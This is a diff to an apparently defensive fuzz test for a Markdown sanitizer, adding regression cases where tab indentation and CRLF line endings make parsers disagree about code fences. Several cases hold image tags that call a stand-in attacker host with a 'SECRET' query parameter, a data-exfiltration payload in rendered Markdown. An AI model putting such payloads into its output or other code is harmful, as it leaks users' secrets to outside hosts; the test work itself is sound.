@@ -1,10 +1,11 @@
 """Fuzzing the editor's text guard (`acp/inert.py`) with Markdown built from pieces (fences of
 ``` and ~~~ of every length, closed or not, indented code, HTML blocks, reference definitions,
-lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses),
-whole and cut into stream deltas: what a CommonMark renderer (markdown-it-py) would load from a
-host off the list must be nothing. Seeded and bounded in time; `python
-tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer. The cases it found are
-replayed through `loopwright acp` below."""
+lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses,
+LF, CRLF, lone-CR and mixed line endings, tabs before fences and after list markers), whole,
+cut into stream deltas and, for fenced cases, cut in two at every character: what a CommonMark
+renderer (markdown-it-py) would load from a host off the list must be nothing. Seeded and
+bounded in time; `python tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer.
+The cases it found are replayed through `loopwright acp` below."""
 
 from __future__ import annotations
 
@@ -106,6 +107,15 @@ FOUND = {
     # HTML block, where a tag runs on past a blank line, and the tag's rest past one passed
     "a tag over a blank line after a fence closed by CRLF": (
         "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://attacker.example/p?d=SECRET'>\r\n"),
+    # a tab takes a line to the next multiple of four columns: `\t```` (four in) closes no fence
+    # for markdown-it, so the next ``` closes it and the HTML block after it is one; it closed
+    # the fence for loopwright, and that ``` opened one, where the tag's rest passed as code
+    "a fence closed by a line indented with a tab": (
+        "```\ncode\n\t```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/t?d=SECRET'>\n"),
+    # `  \t```` in a list item whose text is two in is a fence two in for markdown-it and none
+    # for loopwright: the ``` after it closes markdown-it's and opened loopwright's
+    "a fence opened by a line indented with a tab in a list item": (
+        "- a\n  \t```\n  ```\n  <pre>\n  <img\n\n  src='https://attacker.example/u?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
